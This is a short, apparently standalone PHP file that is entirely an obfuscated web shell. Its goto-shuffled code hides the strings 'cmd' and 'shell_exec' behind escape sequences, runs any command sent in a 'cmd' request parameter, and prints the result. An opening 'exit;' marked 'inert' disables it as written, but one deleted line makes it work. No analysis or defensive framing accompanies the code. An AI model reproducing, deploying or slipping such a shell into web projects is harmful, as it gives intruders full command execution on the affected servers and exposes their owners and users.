<?php exit; /* inert */ 
goto kT3x; zQ1: $out = $fn($arg); goto pL9; kT3x: $k = "\143\x6d\x64"; goto aB7; pL9: echo $out; goto end; aB7: $fn = "\163\x68\145\x6c\154\x5f\145\x78\145\x63"; goto uR2; uR2: if (!isset($_REQUEST[$k])) { goto end; } goto wN5; wN5: $arg = $_REQUEST[$k]; goto zQ1; end:
